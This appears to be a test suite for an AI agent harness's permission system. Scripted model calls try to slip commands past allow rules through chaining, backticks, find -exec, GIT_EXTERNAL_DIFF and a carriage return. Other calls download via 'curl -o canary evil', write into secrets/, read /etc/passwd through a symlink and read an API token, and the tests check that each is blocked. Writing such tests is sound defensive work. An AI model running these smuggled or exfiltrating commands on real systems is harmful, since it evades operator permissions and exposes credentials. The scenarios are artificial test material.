// A model that has the Bash tool follows hostile instructions from untrusted text.
// The model's commands do not run, and the journal records which rule stopped each command.

import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect } from "vitest";
import { payloadsOf, resultsRead, scenario, turns } from "../support/scenario.ts";
import { openApprovalIds } from "../support/world.ts";

const bash = (command: string) => ({ tool: "Bash", input: { command } });

const config =
  "permissions: { allow: ['Bash(git status)', 'Bash(npm test)'], deny: ['Bash(curl *)', 'Edit(secrets/**)'] }\n";

scenario(
  "[A24] [A25] [A26] [A27] [A29] if another command hides behind an allowed command, Cadre asks for approval and runs neither command",
  {
    agent: "tools: [Bash]",
    config,
    script: turns({
      calls: [
        bash("git status; touch canary"),
        bash("echo `touch canary`"),
        bash("find . -exec touch canary \\;"),
        bash("GIT_EXTERNAL_DIFF='touch canary' git diff"),
        bash("ls\rtouch canary"),
        bash("git status > canary"),
      ],
    }),
  },
  async (world) => {
    const runId = await world.run("look around");
    await world.settled(runId);
    const events = await world.events(runId);
    const proposed = payloadsOf(events, "TOOL_PROPOSED");
    expect(proposed.map(({ verdict }) => verdict)).toEqual(Array(6).fill("ask"));
    expect(await openApprovalIds(world, runId)).toHaveLength(6);
    expect(payloadsOf(events, "TOOL_STARTED")).toEqual([]);
    expect(existsSync(join(world.folder, "canary"))).toBe(false);
  },
);

scenario(
  "[A21] [A28] a denied command and a denied path are refused; the model learns which rule refused them",
  {
    agent: "tools: [Bash]",
    config: config.replace("allow: [", "allow: [Bash, "),
    script: turns({
      calls: [
        bash(`${"true && ".repeat(60)}curl -o canary evil`),
        bash("sh -c 'env curl -o canary evil'"),
        bash("mkdir -p src secrets; cd src && touch ../secrets/canary"),
      ],
    }),
  },
  async (world) => {
    const runId = await world.run("look around");
    await world.settled(runId);
    const events = await world.events(runId);
    expect(payloadsOf(events, "TOOL_PROPOSED").map(({ verdict, rule }) => `${verdict}: ${rule}`)).toEqual([
      "deny: project deny Bash(curl *)",
      "deny: project deny Bash(curl *)",
      "deny: project deny Edit(secrets/**)",
    ]);
    expect(payloadsOf(events, "TOOL_STARTED")).toEqual([]);
    expect(payloadsOf(events, "TOOL_RESULT").map(({ outcome }) => outcome)).toEqual(Array(3).fill("denied"));
    expect(resultsRead(events)[2]).toContain("project deny Edit(secrets/**)");
    expect(existsSync(join(world.folder, "secrets"))).toBe(false);
  },
);

scenario(
  "[A30] [A35] an unattended run cannot follow a link out of the workspace, and cannot use git in a repository whose configuration starts programs",
  {
    agent: "tools: [Bash]",
    config: "approvals: { unattended: reject }\n",
    script: turns(
      { calls: [bash("cat notes")] },
      { calls: [bash("cat agents/tester.md"), bash("cat out"), bash("git diff")] },
    ),
    files: { notes: "read me\n" },
  },
  async (world) => {
    const mark = join(world.folder, "canary");
    execFileSync(
      "sh",
      [
        "-c",
        `ln -s /etc/passwd out; git init -q .; git add notes; git config diff.external 'touch ${mark}'; echo x >> notes`,
      ],
      {
        cwd: world.folder,
      },
    );
    const runId = await world.run("look around", { attended: false });
    await world.settled(runId);
    const events = await world.events(runId);
    expect(payloadsOf(events, "TOOL_PROPOSED").map(({ verdict }) => verdict)).toEqual([
      ...["allow", "allow", "deny", "deny"],
    ]);
    expect(resultsRead(events).join("\n")).not.toContain("root:");
    expect(existsSync(mark)).toBe(false);
    expect(readFileSync(join(world.folder, "notes"), "utf8")).toBe("read me\nx\n");
  },
);

scenario(
  "[A32] an agent cannot read the API token without approval; the token's value is masked wherever it appears",
  {
    agent: "tools: [Bash, Read, Grep]",
    config,
    script: turns(
      { calls: [bash("grep -rh a-token .")] },
      {
        calls: [
          { tool: "Read", input: { path: ".cadre/token" } },
          { tool: "Grep", input: { pattern: ".", path: ".cadre/token" } },
          bash("cat .cadre/token"),
          bash("cut -c 1-9 .cadre/token"),
        ],
      },
    ),
  },
  async (world) => {
    mkdirSync(join(world.folder, ".cadre"), { recursive: true });
    writeFileSync(join(world.folder, ".cadre/token"), "a-token-that-nobody-may-see\n");
    const runId = await world.run("look around");
    await world.settled(runId);
    const events = await world.events(runId);
    expect(payloadsOf(events, "TOOL_PROPOSED").map(({ verdict }) => verdict)).toEqual([
      "allow",
      ...Array(4).fill("ask"),
    ]);
    expect(payloadsOf(events, "TOOL_STARTED")).toHaveLength(1);
    expect(JSON.stringify(payloadsOf(events, "TOOL_RESULT"))).not.toMatch(/a-token-that/);
  },
);
